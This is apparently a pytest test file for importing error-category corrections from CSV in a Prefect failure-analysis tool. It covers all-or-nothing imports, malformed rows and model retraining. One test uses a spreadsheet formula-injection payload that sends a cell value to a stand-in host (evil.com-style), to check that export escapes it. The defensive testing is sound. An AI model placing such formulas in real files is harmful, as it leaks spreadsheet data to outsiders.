"""The team's corrections, imported from the batch export or a plain CSV: all or nothing."""

from __future__ import annotations

import csv
import io

import pytest

from prefect_failure_insights.analysis.corrections import import_csv
from prefect_failure_insights.analysis.fingerprint import error_signature, fingerprint
from prefect_failure_insights.analysis.taxonomy import Taxonomy
from prefect_failure_insights.exceptions import InputError
from prefect_failure_insights.reporting.batch import to_csv
from prefect_failure_insights.store.corrections import load_corrections

ODD = "ledger.ReconcileError: reconciliation drift of 12 entries between ledger shards"
VENDOR = "httpx.HTTPStatusError: Server error '503 Service Unavailable' for url 'https://api.x.io/v1/a?page=3'"


def test_corrections_import_from_the_export_all_or_nothing(engine, tmp_path, make_row) -> None:
    exported = list(csv.DictReader(io.StringIO(to_csv([make_row(1, ODD, "ledger.ReconcileError"),
                                                       make_row(2, VENDOR)]))))
    exported[0]["Corrected Category"], exported[0]["Corrected By"] = "input data quality", "dana"
    path = tmp_path / "c.csv"
    with path.open("w", newline="") as fh:
        writer = csv.DictWriter(fh, fieldnames=list(exported[0]))
        writer.writeheader()
        writer.writerows(exported)
    result = import_csv(engine, path, Taxonomy())
    assert (result.imported, result.skipped) == (1, 1)
    [stored] = load_corrections(engine)
    assert stored.category == "INPUT_DATA_QUALITY" and stored.corrected_by == "dana"
    assert stored.fingerprint == fingerprint(error_signature(ODD, "ledger.ReconcileError"))

    bad = tmp_path / "bad.csv"
    bad.write_text("error_text,label,who\nKeyError: 'a',WORKFLOW_ENGINE,x\nboom,COSMIC,y\n")
    with pytest.raises(InputError, match="line 3"):
        import_csv(engine, bad, Taxonomy())
    assert len(load_corrections(engine)) == 1  # nothing of the bad file was written
    with pytest.raises(InputError, match="run .* is in no batch report"):
        (tmp_path / "r.csv").write_text("run_id,corrected_category\nabc,WORKFLOW_ENGINE\n")
        import_csv(engine, tmp_path / "r.csv", Taxonomy())


@pytest.mark.parametrize(("text", "line"), [
    # An unbalanced quote swallows the rest of the file into one field.
    ('error_text,corrected_category\n"Unbalanced quote,INPUT_DATA_QUALITY\nsecond,THIRD_PARTY_SYSTEM\n', 2),
    # ...or closes on the next quote, leaving text after it.
    ('error_text,corrected_category\nok,INPUT_DATA_QUALITY\n"Unbalanced,INPUT_DATA_QUALITY\nx,"y",WORKFLOW_ENGINE\n', 3),
    # A stray comma: more fields than the header.
    ('error_text,corrected_category\n"multi\nline, fine",THIRD_PARTY_SYSTEM\nvalue, with comma,WORKFLOW_ENGINE\n', 4),
])
def test_malformed_csv_names_the_line_and_imports_nothing(engine, tmp_path, text: str, line: int) -> None:
    from prefect_failure_insights.store.corrections import load_corrections

    path = tmp_path / "bad.csv"
    path.write_text(text)
    with pytest.raises(InputError, match=f"line {line}: .*Nothing was imported"):
        import_csv(engine, path, Taxonomy())
    assert load_corrections(engine) == []


def test_a_multi_line_quoted_error_text_is_one_correction(engine, tmp_path) -> None:
    path = tmp_path / "ok.csv"
    path.write_text('error_text,corrected_category\n"Traceback:\n  File ""x.py"", line 3\nKeyError: \'id\'",'
                    'INPUT_DATA_QUALITY\n')
    assert import_csv(engine, path, Taxonomy()).imported == 1


def test_a_formula_in_the_export_stays_text_and_reads_back_as_it_was(engine, tmp_path, make_row) -> None:
    """Issue 25: ``=HYPERLINK(...)`` from a log became a live formula in the spreadsheet the README
    tells people to correct. Every cell that would start a formula is prefixed with ``'``; the
    import takes the prefix off again."""
    formula = '=HYPERLINK("http://evil.example/?d="&A1,"x")'
    exported = to_csv([make_row(1, formula, name="@SUM(1+1)", tags=["-2+3"])])
    cells = [cell for row in csv.reader(io.StringIO(exported)) for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert "'" + formula in cells and "'@SUM(1+1)" in cells and "'-2+3" in cells
    rows = list(csv.DictReader(io.StringIO(exported)))
    rows[0]["Corrected Category"] = "INPUT_DATA_QUALITY"
    path = tmp_path / "c.csv"
    with path.open("w", newline="") as fh:
        writer = csv.DictWriter(fh, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    assert import_csv(engine, path, Taxonomy()).imported == 1
    [stored] = load_corrections(engine)
    assert stored.error_text == formula


def test_corrections_import_retrains_and_the_same_input_keeps_its_answer(database) -> None:
    """Issue 26: retrained on the team's corrections and stored with a version (m010), so the card and
    the batch give the corrected answer, and the same answer, until the next retraining."""
    from prefect_failure_insights.analysis.categorize import Categorizer
    from prefect_failure_insights.analysis.fingerprint import error_signature, fingerprint
    from prefect_failure_insights.analysis.training import retrain, stored_model
    from prefect_failure_insights.models import Correction
    from prefect_failure_insights.store.corrections import save_corrections

    text = "ledger.ReconcileError: reconciliation drift of 12 entries between ledger shards"
    assert stored_model(database.engine) is None
    sig = error_signature(text)
    save_corrections(database.engine, [Correction(fingerprint=fingerprint(sig), signature=sig, error_text=text,
                                                  category="INPUT_DATA_QUALITY", corrected_by="dana")])
    model = retrain(database.engine)
    stored = stored_model(database.engine)
    assert stored is not None and stored.version == model.version and stored.to_dict() == model.to_dict()
    verdict = Categorizer(model=stored)(text.replace("12", "13"))
    assert verdict.category == "INPUT_DATA_QUALITY" and verdict.classified_by == f"model:{model.version}"
    assert Categorizer(model=stored)(text.replace("12", "13")) == verdict  # the same answer again
